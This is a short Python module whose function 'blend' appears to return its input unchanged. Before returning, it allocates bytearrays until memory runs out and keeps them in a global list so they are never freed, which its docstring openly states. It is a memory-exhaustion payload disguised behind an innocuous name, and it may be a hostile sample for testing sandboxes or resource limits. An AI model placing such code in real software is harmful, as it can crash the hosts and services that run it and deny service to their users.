"""Takes memory until there is none, and keeps it."""

hoard = []


def blend(x):
    size = 1 << 26
    while size > 16:
        try:
            hoard.append(bytearray(size))
        except MemoryError:
            size //= 2
    return x
